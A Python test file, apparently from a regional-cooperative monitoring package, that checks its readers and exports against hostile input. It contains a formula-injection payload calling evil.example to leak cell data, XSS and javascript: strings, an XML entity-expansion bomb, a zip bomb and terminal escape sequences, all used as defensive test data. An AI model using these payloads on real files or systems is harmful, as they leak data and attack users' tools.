"""Hostile input on every door added after the JSON reader (issue 19): the entry workbook
and CSV, the IDM reader, exports, ``-o`` targets and what reaches a terminal, Markdown or
HTML. One test (or a small table) per case of the issue, numbered as there.

Nothing but :class:`~desacoop.errors.ValidationError` may leave a reader, each with a
``sheet!cell`` or ``file:line``; a write that fails leaves the old file as it was; what we
write is data, never code.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import errno
import functools
import importlib
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
import tracemalloc
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest

import desacoop
from desacoop import _entry_rows, _xlsx, entry, export
from desacoop._neutral import for_cell, from_cell
from desacoop.cli import main
from desacoop.errors import MAX_PROBLEMS, ValidationError
from desacoop.monitoring import MonitoringPlan, Observation, Value
from desacoop.serialization import _files, dump, from_dict, to_dict, write_atomic
from desacoop.spreadsheet import (
    EVALUATION_COLUMNS,
    OBSERVATION_COLUMNS,
    import_entries,
    observation_rows,
    write_rejected,
    write_rows,
    write_template,
)

from .utils import need

openpyxl = need("openpyxl")
pa = need("pyarrow")

AMOUNT = "transaksi-misi-dagang"  # rupiah per province
COUNT = "bumdes-berkembang-maju"  # a count per regency
RATIO = "kader-aktif"  # a percentage per regency (numerator and denominator)
RECORDED = dt.date(2024, 10, 15)


@pytest.fixture
def plan() -> MonitoringPlan:
    return desacoop.example_plan()


@pytest.fixture
def workbook(plan: MonitoringPlan, tmp_path: Path) -> Path:
    path = tmp_path / "entry.xlsx"
    write_template(plan, path, indicators=[COUNT, RATIO, AMOUNT], period="2024Q3")
    return path


def _sheet_part(path: Path, title: str) -> str:
    """The zip member of the sheet called ``title``."""
    book = openpyxl.load_workbook(path, read_only=True)
    position = book.sheetnames.index(title)
    book.close()
    return f"xl/worksheets/sheet{position + 1}.xml"


def _rewrite(path: Path, member: str, change: Callable[[bytes], bytes]) -> None:
    """Rewrite one part of an xlsx (as an attacker edits the XML)."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts[member] = change(parts[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)


def _first_row(path: Path, title: str, cells: str) -> None:
    """Put raw ``<c>`` elements in row 2 of a sheet, replacing what the template wrote."""

    def change(xml: bytes) -> bytes:
        text = xml.decode()
        return re.sub(r'<row r="2".*?</row>', f'<row r="2">{cells}</row>', text, count=1).encode()

    _rewrite(path, _sheet_part(path, title), change)


def _refused(call: Callable[[], object]) -> ValidationError:
    """The ValidationError a call raises (anything else fails the test)."""
    try:
        call()
    except ValidationError as exc:
        return exc
    raise AssertionError("no ValidationError")


def _peak(call: Callable[[], object]) -> int:
    """Peak bytes Python allocated during ``call``."""
    tracemalloc.start()
    with contextlib.suppress(ValidationError):
        call()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


# -- 1. a small file that would take the machine down ------------------------------------


def test_1_a_declared_dimension_is_never_read_and_a_far_row_is_refused(
    plan: MonitoringPlan, workbook: Path
) -> None:
    member = _sheet_part(workbook, COUNT)

    def far(xml: bytes) -> bytes:
        text = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml.decode())
        far_row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return text.replace("</sheetData>", far_row + "</sheetData>").encode()

    _rewrite(workbook, member, far)
    peak = _peak(lambda: import_entries(plan, workbook))
    exc = _refused(lambda: import_entries(plan, workbook))
    assert exc.problems[0].path.startswith(f"{COUNT}!")
    assert "past" in exc.problems[0].message  # a row past the limit, or a column past L
    assert peak < 30_000_000  # not 16,384 cells padded into a million rows


def test_1_a_zip_bomb_is_refused_from_its_directory(
    plan: MonitoringPlan, workbook: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_xlsx, "MAX_PART_SIZE", 1_000_000)  # the real one is 128 MB
    member = _sheet_part(workbook, COUNT)
    _rewrite(
        workbook, member, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 2_000_000)
    )
    assert workbook.stat().st_size < 100_000  # 2 MB of blanks pack small
    exc = _refused(lambda: import_entries(plan, workbook))
    assert "unpacks to 2,0" in str(exc)


def test_1_a_huge_cell_is_refused_at_its_cell(plan: MonitoringPlan, workbook: Path) -> None:
    long_text = "9" * 40_000
    _first_row(workbook, COUNT, f'<c r="D2" t="inlineStr"><is><t>{long_text}</t></is></c>')
    exc = _refused(lambda: import_entries(plan, workbook))
    assert exc.problems[0].path == f"{COUNT}!D2"
    assert "longer than 32,767" in exc.problems[0].message


# -- 2. problems are capped --------------------------------------------------------------


def test_2_a_million_bad_items_give_a_capped_error() -> None:
    document = to_dict(desacoop.example_agreement())
    document["notes"] = [0] * 1_000_000
    peak = _peak(lambda: from_dict(document))
    exc = _refused(lambda: from_dict(document))
    assert len(exc.problems) == MAX_PROBLEMS + 1
    assert exc.problems[-1].message == (
        "reading stopped after 100 problems in this list; 999,900 more items were not read"
    )
    assert len(str(exc)) < 20_000
    assert peak < 200_000_000


def test_2_from_problems_lists_at_most_the_cap_then_how_many_more() -> None:
    from desacoop.errors import Problem

    exc = ValidationError.from_problems(Problem(f"$[{i}]", "bad") for i in range(250))
    assert len(exc.problems) == MAX_PROBLEMS + 1
    assert str(exc).splitlines()[-1] == "  …: and 150 more problems"
    assert str(exc).startswith(f"{MAX_PROBLEMS + 1} problems:")


# -- 3. validation linear in correction chains -------------------------------------------


def _chain(plan: MonitoringPlan, length: int) -> list[Observation]:
    first = plan.observations[0]
    chain = [first]
    for k in range(length):
        chain.append(attrs.evolve(chain[-1], id=f"c{k}", supersedes=chain[-1].id))
    return chain


def test_3_a_long_chain_of_corrections_is_walked_once(plan: MonitoringPlan) -> None:
    from desacoop import monitoring

    looked_up = 0

    class Counting(dict[str, Observation]):
        def get(self, key: Any, default: Any = None) -> Any:
            nonlocal looked_up
            looked_up += 1
            return super().get(key, default)

    chain = _chain(plan, 5_000)
    assert monitoring._looping(Counting((o.id, o) for o in chain)) == set()
    assert looked_up <= 2 * len(chain)  # not 5,000²/2
    plan2 = attrs.evolve(plan, observations=(*plan.observations[1:], *chain))
    assert len(plan2.observations) == len(plan.observations) + 5_000


def test_3_a_circle_of_corrections_is_still_found(plan: MonitoringPlan) -> None:
    from desacoop import monitoring

    a, b = plan.observations[0], plan.observations[0]
    a = attrs.evolve(a, id="a", supersedes="b")
    b = attrs.evolve(b, id="b", supersedes="a")
    tail = attrs.evolve(b, id="t", supersedes="a")  # leads into the circle, not on it
    seen = {o.id: o for o in (a, b, tail)}
    assert monitoring._looping(seen) == {"a", "b"}
    exc = _refused(lambda: attrs.evolve(plan, observations=(*plan.observations[1:], a, b)))
    assert "go round in a circle" in str(exc)


# -- 4. the entry CSV has limits ------------------------------------------------------------


def test_4_an_entry_csv_past_the_size_limit_is_refused_unread(
    plan: MonitoringPlan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_entry_rows, "MAX_ENTRY_FILE_SIZE", 10_000)
    path = tmp_path / "entry.csv"
    path.write_text("indicator,region_code,date\n" + "\n" * 20_000, encoding="utf-8")
    assert "larger than the 10,000 bytes" in str(_refused(lambda: import_entries(plan, path)))


def test_4_empty_rows_count_against_the_row_limit(plan: MonitoringPlan, tmp_path: Path) -> None:
    path = tmp_path / "entry.csv"
    limit = entry.max_entry_rows(plan)
    path.write_text("indicator,region_code,date\n" + ",,\n" * (limit + 5), encoding="utf-8")
    exc = _refused(lambda: import_entries(plan, path))
    assert exc.problems[0].path == f"entry!{limit + 2}"  # the header is row 1
    assert f"more than the {limit:,} rows" in exc.problems[0].message


def test_4_a_row_limit_follows_the_plan(plan: MonitoringPlan) -> None:
    assert entry.max_entry_rows(plan) >= entry.MIN_ENTRY_ROWS
    small = attrs.evolve(plan, observations=())
    assert entry.max_entry_rows(small) <= 1_048_576


# -- 5. pipes and devices are refused by every reader ------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes")
@pytest.mark.parametrize(
    "argv",
    [
        ["import", "{plan}", "{pipe}.csv"],
        ["import", "{plan}", "{pipe}.xlsx"],
        ["idm", "summary", "{pipe}.json"],
        ["idm", "summary", "{good}", "--regions", "{pipe}.csv"],
        ["export", "{plan}", "--regions", "{pipe}.csv"],
    ],
)
def test_5_a_pipe_is_refused_without_waiting(
    plan: MonitoringPlan, tmp_path: Path, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    plan_file, good = tmp_path / "plan.json", tmp_path / "idm.json"
    dump(plan, plan_file)
    good.write_text(json.dumps(_idm_record()), encoding="utf-8")
    pipe = tmp_path / "pipe"
    names = {"plan": str(plan_file), "pipe": str(pipe), "good": str(good)}
    args = [a.format(**names) for a in argv]
    for a in args:
        if a.startswith(str(pipe)):
            os.mkfifo(a)
    outcome: list[object] = []
    runner = threading.Thread(target=lambda: outcome.append(main(args, io.StringIO())), daemon=True)
    runner.start()
    runner.join(timeout=20)
    assert not runner.is_alive(), f"{argv} waited on a pipe"
    assert outcome == [1]
    assert "not a regular file" in capsys.readouterr().err


# -- 6. and 7. every write atomic, no special file replaced --------------------------------


def _full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    real = _files._write_all

    def half_then_full(fd: int, data: Any) -> None:
        real(fd, memoryview(data)[: len(data) // 2])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(_files, "_write_all", half_then_full)


@pytest.mark.parametrize("name", ["out.csv", "out.parquet", "entry.xlsx", "entry.csv", "rej.csv"])
def test_6_a_write_that_fails_half_way_leaves_the_old_file(
    plan: MonitoringPlan,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / name
    path.write_bytes(b"old content\n")
    rows = observation_rows(plan)
    write: Callable[[], object] = {
        "out.csv": lambda: write_rows(rows, OBSERVATION_COLUMNS, path),
        "out.parquet": lambda: write_rows(rows, OBSERVATION_COLUMNS, path, format="parquet"),
        "entry.xlsx": lambda: write_template(plan, path, period="2024Q3"),
        "entry.csv": lambda: write_template(plan, path, period="2024Q3"),
        "rej.csv": lambda: write_rejected(
            [entry.RejectedRow("s!2", {"value": "x" * 100_000}, ())], path
        ),
    }[name]
    _full_disk(monkeypatch)
    assert "No space left on device" in str(_refused(write))
    assert path.read_bytes() == b"old content\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]
    assert "Exception ignored" not in capsys.readouterr().err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes")
def test_7_a_pipe_or_a_directory_is_never_replaced(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    assert "not a regular file" in str(_refused(lambda: write_atomic(pipe, "x")))
    assert stat.S_ISFIFO(os.stat(pipe).st_mode)
    (tmp_path / "folder").mkdir()
    assert "a directory" in str(_refused(lambda: write_atomic(tmp_path / "folder", "x")))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder", "pipe"]  # no temporary


def test_7_a_device_is_never_replaced() -> None:
    before = os.stat("/dev/null")
    assert "not a regular file" in str(_refused(lambda: write_atomic("/dev/null", "x")))
    assert os.stat("/dev/null").st_ino == before.st_ino


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes")
@pytest.mark.parametrize(
    "argv",
    [
        ["report", "-o", "{target}"],
        ["export", "{plan}", "-o", "{target}"],
        ["template", "{plan}", "--period", "2024Q3", "-o", "{target}.xlsx"],
        ["import", "{plan}", "{entry}", "-o", "{target}"],
    ],
)
def test_7_every_dash_o_refuses_a_pipe(
    plan: MonitoringPlan, tmp_path: Path, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    plan_file, entry_file = tmp_path / "plan.json", tmp_path / "entry.csv"
    dump(plan, plan_file)
    entry_file.write_text(
        f"indicator,region_code,date,value\n{AMOUNT},63,2024-09-30,5\n", encoding="utf-8"
    )
    target = tmp_path / "target"
    args = [a.format(plan=plan_file, target=target, entry=entry_file) for a in argv]
    os.mkfifo(args[-1])
    assert main(args, io.StringIO()) == 1
    assert "not a regular file" in capsys.readouterr().err
    assert stat.S_ISFIFO(os.stat(args[-1]).st_mode)


# -- 8. and 9. typed, stable outputs ---------------------------------------------------------


def _quarter(day: dt.date) -> str:
    """The quarter ``day`` ends (the observations of the example are at quarter ends)."""
    return f"{day.year}Q{(day.month - 1) // 3 + 1}"


def _with_amount(plan: MonitoringPlan, amount: str) -> MonitoringPlan:
    observation = next(o for o in plan.observations if o.indicator == AMOUNT)
    changed = attrs.evolve(observation, value=Value(amount=Decimal(amount)))
    rest = tuple(o if o is not observation else changed for o in plan.observations)
    return attrs.evolve(plan, observations=rest)


def test_8_an_untouched_template_reimports_every_digit(
    plan: MonitoringPlan, tmp_path: Path
) -> None:
    observation = next(o for o in plan.observations if o.indicator == AMOUNT)
    plan = _with_amount(plan, "1500000000.0000000001")
    path = tmp_path / "entry.xlsx"
    write_template(plan, path, indicators=[AMOUNT], period=_quarter(observation.on))
    book = openpyxl.load_workbook(path)
    values = [row[3].value for row in book[AMOUNT].iter_rows(min_row=2) if row[3].value]
    assert "1500000000.0000000001" in values  # as text: a float would make it 1500000000.0
    result = import_entries(plan, path, recorded_on=RECORDED)
    assert (result.added, result.corrections) == ((), ())


def test_8_number_cells_are_read_as_their_digits(plan: MonitoringPlan, workbook: Path) -> None:
    _first_row(
        workbook,
        AMOUNT,
        '<c r="A2" t="inlineStr"><is><t>transaksi-misi-dagang</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>63</t></is></c>'
        '<c r="D2"><v>1500000000.0000000001</v></c>'
        '<c r="G2" t="inlineStr"><is><t>2024-09-30</t></is></c>',
    )
    result = import_entries(plan, workbook, recorded_on=RECORDED, partial=True)
    (added,) = [o for o in (*result.added, *result.corrections) if o.indicator == AMOUNT]
    assert added.value.amount == Decimal("1500000000.0000000001")


def test_9_every_export_of_a_kind_has_one_schema(plan: MonitoringPlan, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    one, two = tmp_path / "one.parquet", tmp_path / "two.parquet"
    write_rows(
        observation_rows(_with_amount(plan, "1500000000")),
        OBSERVATION_COLUMNS,
        one,
        format="parquet",
    )
    write_rows(
        observation_rows(_with_amount(plan, "750000000.50")),
        OBSERVATION_COLUMNS,
        two,
        format="parquet",
    )
    a, b = pq.read_table(one), pq.read_table(two)
    assert a.schema == b.schema == export.arrow_schema(OBSERVATION_COLUMNS)
    assert a.schema.field("amount").type == pa.decimal128(38, 12)
    assert a.schema.field("met").type == pa.bool_()
    assert a.schema.field("region").type == pa.string()
    both = pa.concat_tables([a, b])
    amounts = {v for v in both.column("amount").to_pylist() if v is not None}
    assert {Decimal("1500000000"), Decimal("750000000.50")} <= amounts
    empty = tmp_path / "empty.parquet"
    write_rows([], EVALUATION_COLUMNS, empty, format="parquet")
    assert pq.read_table(empty).schema.field("finding_count").type == pa.int64()


def test_9_a_recorded_number_the_decimal_type_cannot_hold_is_refused(
    plan: MonitoringPlan, tmp_path: Path
) -> None:
    rows = observation_rows(_with_amount(plan, "1E+40"))
    exc = _refused(
        lambda: write_rows(rows, OBSERVATION_COLUMNS, tmp_path / "x.parquet", format="parquet")
    )
    assert "column amount" in str(exc)
    assert "export it as CSV" in str(exc)


# -- 10. nothing but ValidationError out of a workbook -------------------------------------


_BAD_CELLS = {
    "nan": '<c r="D2"><v>nan</v></c>',
    "maybe": '<c r="D2" t="b"><v>maybe</v></c>',
    "5,000 digits": f'<c r="D2"><v>{"9" * 5000}</v></c>',
    "29 February 2022": '<c r="D2" t="d"><v>2022-02-29</v></c>',
    "a bad shared string": '<c r="D2" t="s"><v>99999</v></c>',
    "a bad style": '<c r="D2" s="999"><v>5</v></c>',
    "in an ignored column": '<c r="K2" t="b"><v>maybe</v></c>',
}


@pytest.mark.parametrize("cell", list(_BAD_CELLS))
def test_10_a_cell_openpyxl_cannot_read_is_a_validation_error(
    plan: MonitoringPlan, workbook: Path, cell: str
) -> None:
    _first_row(workbook, COUNT, _BAD_CELLS[cell])
    exc = _refused(lambda: import_entries(plan, workbook, partial=True))
    assert exc.problems[0].path.startswith(f"{COUNT}!")


@pytest.mark.parametrize(
    "xml",
    [
        b"<worksheet><sheetData><row r='2'>",  # cut short
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
        b'&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;'
        b'&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><worksheet '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="2"><c r="D2" t="inlineStr"><is><t>&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;</t></is></c>'
        b"</row></sheetData></worksheet>",  # entity expansion
    ],
)
def test_10_bad_xml_is_a_validation_error(plan: MonitoringPlan, workbook: Path, xml: bytes) -> None:
    _rewrite(workbook, _sheet_part(workbook, COUNT), lambda _: xml)
    _refused(lambda: import_entries(plan, workbook))


def test_10_a_zip_of_an_unknown_version_is_a_validation_error(
    plan: MonitoringPlan, workbook: Path
) -> None:
    data = bytearray(workbook.read_bytes())
    directory = data.rfind(b"PK\x01\x02")  # the last central directory entry
    data[directory + 6] = 170  # "version needed to extract": 17.0, which zipfile refuses
    workbook.write_bytes(bytes(data))
    assert "zip file version 17.0" in str(_refused(lambda: import_entries(plan, workbook)))


def test_10_a_one_column_meta_sheet_is_read(plan: MonitoringPlan, workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    meta = book["_desacoop"]
    for row in meta.iter_rows():
        row[1].value = None
    book.save(workbook)
    result = import_entries(plan, workbook, recorded_on=RECORDED)
    assert result.rejected == ()


# -- 11. the IDM reader is the strict JSON reader ---------------------------------------------


def _idm_record() -> dict[str, Any]:
    """A record as the ministry publishes it (the first of the shared sample)."""
    from .utils import shared_file

    first = shared_file("idm", "kemendes-idm-sample.jsonl").read_text(encoding="utf-8")
    record: dict[str, Any] = json.loads(first.splitlines()[0])
    return record


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"village": "6371011001", "village": "x"}', "appears 2 times"),
        ("[" + ",".join(["0"] * 200_000) + "]", "stopped after"),
    ],
)
def test_11_the_idm_reader_is_strict(
    tmp_path: Path, text: str, expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "idm.json"
    path.write_text(text, encoding="utf-8")
    assert main(["idm", "summary", str(path)], io.StringIO()) == 1
    err = capsys.readouterr().err
    assert expected in err
    assert len(err) < 50_000


# -- 12. and 13. the entry CSV ---------------------------------------------------------------


def test_12_a_field_past_the_csv_limit_is_a_validation_error_at_its_line(
    plan: MonitoringPlan, tmp_path: Path
) -> None:
    path = tmp_path / "entry.csv"
    path.write_text(
        "indicator,region_code,date,value\n" + f'{COUNT},63.01,2024-09-30,"{"x" * 140_000}"\n',
        encoding="utf-8",
    )
    exc = _refused(lambda: import_entries(plan, path))
    assert exc.problems[0].path in ("entry!D2", "entry:2")


def test_13_rows_the_model_refuses_are_rejected_at_their_cell_with_partial(
    plan: MonitoringPlan, tmp_path: Path
) -> None:
    path = tmp_path / "entry.csv"
    path.write_text(
        "indicator,region_code,date,value,numerator,denominator\n"
        f"{RATIO},63.01,2024-09-30,,-3,10\n"
        f"{COUNT},63.01,2024-09-30,{'9' * 2000},,\n"
        f"{AMOUNT},63,2024-09-30,5,,\n",
        encoding="utf-8",
    )
    result = import_entries(plan, path, recorded_on=RECORDED, partial=True)
    assert [r.where for r in result.rejected] == ["entry!2", "entry!3"]
    assert result.rejected[0].problems[0].path == "entry!E2"
    assert result.rejected[1].problems[0].path == "entry!D3"
    assert len(result.added) + len(result.corrections) == 1
    write_rejected(result.rejected, tmp_path / "rejected.csv")
    assert (tmp_path / "rejected.csv").read_text(encoding="utf-8").count("\n") == 3


# -- 14. and 15. texts and dates at the edges ----------------------------------------------


def test_14_a_control_character_in_a_title_does_not_break_the_template(
    plan: MonitoringPlan, tmp_path: Path
) -> None:
    plan = attrs.evolve(plan, title="Rencana\x0bdari Word")
    path = tmp_path / "entry.xlsx"
    write_template(plan, path, indicators=[COUNT], period="2024Q3")
    book = openpyxl.load_workbook(path)
    texts = [c.value for row in book["Baca saya - Read me"].iter_rows() for c in row]
    assert any("Rencana\\x0bdari Word" in str(t) for t in texts)


def test_15_a_report_dated_9999_renders(plan: MonitoringPlan) -> None:
    from desacoop.report import render
    from desacoop.rollup import progress

    report = progress(plan, as_of=dt.date(9999, 1, 1))
    assert "</html>" in render(report, format="html")
    assert report._repr_html_()


def test_15_a_signing_time_out_of_range_is_a_problem_at_its_field() -> None:
    document = to_dict(desacoop.example_agreement())
    document["signing"]["at"] = "9999-12-31T23:59:59-12:00"
    exc = _refused(lambda: from_dict(document))
    assert exc.problems[0].path == "$.signing.at"


# -- 16. to 19. outputs are data, not code ----------------------------------------------------

_FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"klik")'


@pytest.mark.parametrize("text", [_FORMULA, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=x", "'a"])
def test_16_a_cell_text_reads_back_as_written(text: str) -> None:
    assert for_cell(text)[0] not in "=+-@\t\r"
    assert from_cell(for_cell(text)) == text


def _with_source(plan: MonitoringPlan, source: str) -> tuple[MonitoringPlan, Observation]:
    observation = next(o for o in plan.observations if o.indicator == COUNT)
    changed = attrs.evolve(observation, source=source)
    rest = tuple(o if o is not observation else changed for o in plan.observations)
    return attrs.evolve(plan, observations=rest), changed


def test_16_exports_write_no_formula(plan: MonitoringPlan, tmp_path: Path) -> None:
    plan, _ = _with_source(plan, _FORMULA)
    path = tmp_path / "out.csv"
    write_rows(observation_rows(plan), OBSERVATION_COLUMNS, path)
    text = path.read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "'" + _FORMULA in cells
    assert not any(c[:1] in ("=", "+", "@") for c in cells)
    assert not any(c.startswith("-") and not re.fullmatch(r"-[0-9.]+", c) for c in cells)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_16_a_formula_in_a_template_is_a_text_and_reads_back_unchanged(
    plan: MonitoringPlan, tmp_path: Path, suffix: str
) -> None:
    plan, observation = _with_source(plan, _FORMULA)
    path = tmp_path / f"entry{suffix}"
    write_template(plan, path, indicators=[COUNT], period=_quarter(observation.on))
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        cells = [c for row in book[COUNT].iter_rows() for c in row if c.value == _FORMULA]
        assert cells
        assert all(c.data_type == "s" for c in cells)
    result = import_entries(plan, path, recorded_on=RECORDED)
    assert (result.added, result.corrections) == ((), ())


def test_16_rejected_rows_and_the_idm_csv_write_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "rejected.csv"
    write_rejected([entry.RejectedRow("s!2", {"source": _FORMULA, "note": "@x"}, ())], path)
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert ",'@x" in text


def test_17_markdown_fields_make_no_structure(plan: MonitoringPlan) -> None:
    from desacoop.report import render
    from desacoop.rollup import progress

    hostile = "x\n# forged\n| a | b |\n<img src=x onerror=alert(1)> [y](javascript:alert(1))"
    plan = attrs.evolve(plan, title=hostile)
    text = render(progress(plan, as_of=dt.date(2024, 12, 31)), format="markdown")
    assert "\n# forged" not in text
    assert "<img" not in text
    assert "[y](javascript:" not in text  # shown as text: \\[y\\](javascript:...


def test_18_the_terminal_gets_no_control_character(plan: MonitoringPlan, tmp_path: Path) -> None:
    from desacoop.report import format_agreement, render
    from desacoop.rollup import progress

    hostile = "\x1b[2J\x1b]0;owned\x07\x08\x9b31m"
    # the English note beside it too: the English summary and report print that one
    agreement = attrs.evolve(plan.agreement, notes=(hostile,), notes_en=(hostile,))
    plan = attrs.evolve(
        plan, agreement=agreement, title=hostile, notes=(hostile,), notes_en=(hostile,)
    )
    report = progress(plan, as_of=dt.date(2024, 12, 31))
    for text in (
        format_agreement(agreement),
        format_agreement(agreement, language="en"),
        render(report, format="text"),
        render(report, format="text", language="id"),
    ):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
        assert "\\x1b[2J" in text


def test_19_html_isolates_bidi_text_and_wraps_long_words(plan: MonitoringPlan) -> None:
    from desacoop.html import STYLE
    from desacoop.report import render
    from desacoop.rollup import progress

    plan = attrs.evolve(plan, title="\u202egnp.exe " + "x" * 3000)
    page = render(progress(plan, as_of=dt.date(2024, 12, 31)), format="html")
    assert "\u202e" not in page
    assert "\\u202egnp.exe" in page
    assert "overflow-wrap:anywhere" in STYLE
    assert "unicode-bidi:isolate" in STYLE


# -- 20. a very hidden sheet ------------------------------------------------------------------


@pytest.mark.parametrize("state", ["veryHidden", "hidden"])
def test_20_filled_rows_on_a_sheet_excel_does_not_show_are_refused(
    plan: MonitoringPlan, workbook: Path, state: str
) -> None:
    book = openpyxl.load_workbook(workbook)
    book[COUNT]["D2"] = 5
    book[COUNT].sheet_state = state
    book.save(workbook)
    exc = _refused(lambda: import_entries(plan, workbook, recorded_on=RECORDED))
    assert exc.problems[0].path == f"{COUNT}!2"
    assert state in exc.problems[0].message


# -- the fuzzer: every door, hostile bytes, only ValidationError out ------------------------
#
# Mutated entry workbooks (at the XML level and as zip bytes), entry CSVs, IDM record
# files and exports of observations whose texts are hostile. Only ValidationError may come
# out; no input may take over 2 s; a CSV export must read back as written. A few hundred
# inputs run by default; the slow run takes DESACOOP_FUZZ_COUNT inputs (default 100,000)
# and prints its counts, the slowest input and the process's peak memory.

_HOSTILE = [
    b"=", b"+", b"-", b"@", b"\t", b"\r", b"\n", b"\r\n", b",", b'"', b"'", b"\x00", b"\xff",
    b"\x1b[2J", b"\xe2\x80\xae", b"9" * 400, b"1e999", b"nan", b"-0", b"1.234", b"12,5 %",
    b"<", b">", b"&", b"&e;", b"]]>", b'<c r="D2"><v>nan</v></c>',
    b'<c r="D2" t="s"><v>9999</v></c>',
    b'<c r="D2" s="99"><v>1</v></c>', b'<c r="D2" t="d"><v>2022-02-29</v></c>',
    b'<c r="D2" t="b"><v>maybe</v></c>', b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    b'<c r="ZZ2" t="inlineStr"><is><t>x</t></is></c>', b"x" * 40_000,
    b'=HYPERLINK("http://evil.example")', b"[" * 500, b'{"a":1,"a":2}', b"NaN",
]  # fmt: skip


def _mutated(rng: Any, data: bytes) -> bytes:
    for _ in range(rng.choice((1, 1, 2, 3))):
        at = rng.randrange(len(data) + 1)
        kind = rng.randrange(5)
        if kind == 0:
            data = data[:at] + bytes([rng.randrange(256)]) + data[at + 1 :]
        elif kind == 1:
            data = data[:at] + data[at + rng.randint(1, 40) :]
        elif kind == 2:
            data = data[:at] + rng.choice(_HOSTILE) + data[at:]
        elif kind == 3:
            end = min(len(data), at + rng.randint(1, 80))
            data = data[:end] + data[at:end] + data[end:]
        else:
            data = data[:at]
    return data


def _zip_with(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


def _fuzz(tmp_path: Path, total: int, seed: int) -> dict[str, Any]:
    import random
    import time

    from desacoop.cli._commands import idm

    importlib.import_module("pyarrow.parquet")  # loaded now: an extra's import is no input's cost
    rng = random.Random(seed)
    plan = desacoop.example_plan()
    small = attrs.evolve(plan, observations=plan.observations[:3])
    book = tmp_path / "seed.xlsx"
    write_template(plan, book, indicators=[COUNT, RATIO, AMOUNT], period="2024Q3")
    with zipfile.ZipFile(book) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    xml_parts = [
        n for n in parts if (n.endswith(".xml") and "worksheets" in n) or "sharedStrings" in n
    ]
    xml_parts += ["xl/styles.xml", "xl/workbook.xml"]
    csv_seed = (tmp_path / "seed.csv").with_suffix(".csv")
    write_template(plan, csv_seed, indicators=[COUNT, RATIO, AMOUNT], period="2024Q2")
    csv_bytes = csv_seed.read_bytes()
    idm_seed = json.dumps(_idm_record(), ensure_ascii=False).encode()
    counts = {"inputs": 0, "refused": 0, "read": 0}
    escapes: list[str] = []
    slowest = (0.0, "")
    target = tmp_path / "input"

    def attempt(door: str, call: Callable[[], object], data: bytes) -> None:
        nonlocal slowest
        counts["inputs"] += 1
        started = time.perf_counter()
        try:
            call()
        except ValidationError as exc:
            counts["refused"] += 1
            if not str(exc):  # pragma: no cover - the bug this finds
                escapes.append(f"{door}: an empty ValidationError for {data[:120]!r}")
        except BaseException as exc:  # pragma: no cover - the bug this finds
            escapes.append(f"{door}: {type(exc).__name__}: {exc!s:.200} for {data[:120]!r}")
        else:
            counts["read"] += 1
        took = time.perf_counter() - started
        if took > slowest[0]:
            slowest = (took, f"{door} {data[:80]!r}")

    while counts["inputs"] < total and len(escapes) < 20:
        door = rng.choices(("xlsx", "zip", "csv", "idm", "export"), (3, 1, 6, 6, 4))[0]
        partial = rng.random() < 0.5
        if door == "xlsx":
            name = rng.choice(xml_parts)
            data = _zip_with({**parts, name: _mutated(rng, parts[name])})
        elif door == "zip":
            data = _mutated(rng, _zip_with(parts))
        elif door == "csv":
            data = _mutated(rng, csv_bytes)
        elif door == "idm":
